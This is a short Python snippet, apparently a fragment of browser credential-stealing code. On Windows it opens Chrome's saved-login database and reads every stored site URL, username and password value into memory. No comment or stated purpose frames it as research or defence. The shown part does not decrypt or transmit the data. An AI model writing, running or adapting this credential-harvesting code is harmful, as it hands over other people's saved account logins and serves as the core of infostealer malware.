import os
import sqlite3
import sys

if sys.platform == "win32":
    db = os.path.join(os.environ["LOCALAPPDATA"], r"Google\Chrome\User Data\Default\Login Data")
    LOGINS = sqlite3.connect(db).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
